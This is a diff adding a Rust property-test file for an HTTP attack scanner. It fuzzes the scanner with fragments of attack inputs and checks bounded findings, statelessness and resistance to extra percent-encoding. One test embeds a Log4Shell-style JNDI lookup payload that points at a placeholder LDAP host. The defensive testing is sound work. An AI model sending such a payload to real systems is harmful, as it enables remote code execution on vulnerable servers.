@@ -1,0 +1,121 @@
+//! What holds for any bytes at any place.
+
+use backstop_detect::chain::MAX_STEPS;
+use backstop_detect::finding::{MAX_FINDINGS, MAX_MATCHED, MAX_NAME};
+use backstop_detect::{Findings, Level, ScanOptions, Scanner};
+use backstop_http::{Kind, Place};
+use proptest::prelude::*;
+
+use crate::rows::{KINDS, rows};
+
+fn scan(place: Place<'_>, value: &[u8]) -> Findings {
+    let mut findings = Findings::new();
+    Scanner::new(ScanOptions {
+        level: Level::Three,
+        http_libraries: true,
+        ..ScanOptions::default()
+    })
+    .inspect(place, value, &mut findings);
+    findings
+}
+
+fn kind() -> impl Strategy<Value = Kind> {
+    proptest::sample::select(KINDS.to_vec())
+}
+
+/// Pieces that attacks are made of, in any order, with any bytes between: far closer to every branch than chance bytes.
+fn hostile() -> impl Strategy<Value = Vec<u8>> {
+    let pieces: Vec<Vec<u8>> = rows().into_iter().map(|row| row.input).collect();
+    let piece = prop_oneof![
+        3 => proptest::sample::select(pieces).prop_flat_map(|piece| {
+            let length = piece.len();
+            (Just(piece), 0..=length, 0..=length)
+                .prop_map(|(piece, a, b)| piece[a.min(b)..a.max(b)].to_vec())
+        }),
+        1 => proptest::collection::vec(any::<u8>(), 0..12),
+        1 => proptest::sample::select(b"%&\\'\"<>(){}[]$;|`#/*=+-.,:@!?~^_ \r\n\t\0".to_vec())
+            .prop_map(|byte| vec![byte; 7]),
+    ];
+    proptest::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(2000))]
+
+    #[test]
+    fn a_scan_survives_anything_and_its_report_is_bounded(
+        kind in kind(),
+        name in proptest::collection::vec(any::<u8>(), 0..100),
+        value in hostile(),
+    ) {
+        let findings = scan(Place::new(kind, &name), &value);
+        prop_assert!(findings.len() <= MAX_FINDINGS);
+        for (index, finding) in findings.as_slice().iter().enumerate() {
+            prop_assert!(finding.matched.len() <= MAX_MATCHED);
+            prop_assert!(finding.name.len() <= MAX_NAME);
+            prop_assert!(finding.chain.len() <= MAX_STEPS);
+            let again = findings.as_slice()[..index]
+                .iter()
+                .any(|other| other.rule == finding.rule);
+            prop_assert!(!again || kind == Kind::Header, "{} twice", finding.rule.name);
+        }
+    }
+
+    /// A scanner carries nothing from one value to the next.
+    #[test]
+    fn a_value_is_judged_alone(kind in kind(), before in hostile(), value in hostile()) {
+        let place = Place::new(kind, b"a");
+        let mut scanner = Scanner::new(ScanOptions::default());
+        let mut discarded = Findings::new();
+        scanner.inspect(place, &before, &mut discarded);
+        let mut second = Findings::new();
+        scanner.inspect(place, &value, &mut second);
+        let mut fresh = Findings::new();
+        Scanner::new(ScanOptions::default()).inspect(place, &value, &mut fresh);
+        prop_assert_eq!(second.as_slice(), fresh.as_slice());
+    }
+
+    /// Encoding a value once more where a server would decode it does not hide it.
+    #[test]
+    fn another_layer_of_percent_encoding_hides_nothing(row in proptest::sample::select(attacks())) {
+        let encoded: Vec<u8> = row
+            .iter()
+            .flat_map(|byte| format!("%{byte:02x}").into_bytes())
+            .collect();
+        let place = Place::new(Kind::Json, b"/a");
+        prop_assert!(!scan(place, &encoded).is_empty(), "{}", row.escape_ascii());
+    }
+}
+
+/// The inputs of rows that are attacks in a JSON string, too.
+fn attacks() -> Vec<Vec<u8>> {
+    rows()
+        .into_iter()
+        .filter(|row| row.expect.is_some())
+        .map(|row| row.input)
+        .filter(|input| !scan(Place::new(Kind::Json, b"/a"), input).is_empty())
+        .collect()
+}
+
+/// Every layer of decoding costs one form; layers beyond the bound are not followed, however many there are.
+#[test]
+fn layers_are_bounded() {
+    let mut value = b"${jndi:ldap://203.0.113.9/a}".to_vec();
+    for layer in 0..MAX_STEPS + 4 {
+        let found = scan(Place::new(Kind::Json, b"/a"), &value);
+        let chain = found.as_slice().first().map(|finding| finding.chain);
+        assert_eq!(
+            chain.map(|chain| chain.len()),
+            (layer <= MAX_STEPS).then_some(layer),
+            "{layer}"
+        );
+        value = value
+            .iter()
+            .flat_map(|byte| match byte {
+                b'%' => b"%25".to_vec(),
+                b'$' | b'{' | b':' => format!("%{byte:02x}").into_bytes(),
+                _ => vec![*byte],
+            })
+            .collect();
+    }
+}
